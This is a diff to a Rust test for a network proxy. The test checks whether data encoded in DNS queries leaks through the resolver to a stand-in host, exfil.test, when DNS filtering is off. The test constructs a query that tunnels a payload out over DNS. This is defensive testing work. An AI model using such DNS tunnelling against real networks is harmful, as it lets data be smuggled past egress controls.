@@ -196,8 +196,9 @@ async fn dns_tunnel_through_the_resolver_is_closed_by_the_proxys_dns_server() {
     let mut lab = DnsLab::new();
 
     // The finding: with DNS allowed only to the resolver (no [dns]), the payload still
-    // reaches it, and from there whoever serves exfil.test.
-    lab.start_proxy("");
+    // reaches it, and from there whoever serves exfil.test. `serve` now refuses that set-up
+    // unless told `dns_unfiltered` (inside [ebpf], where `{dns}` lands).
+    lab.start_proxy("dns_unfiltered = true");
     let leaked = format!("{}.exfil.test", payload("before"));
     let v = lab.query(RESOLVER_V4, &leaked, "A");
     assert_eq!(v["ok"], true, "{v}");
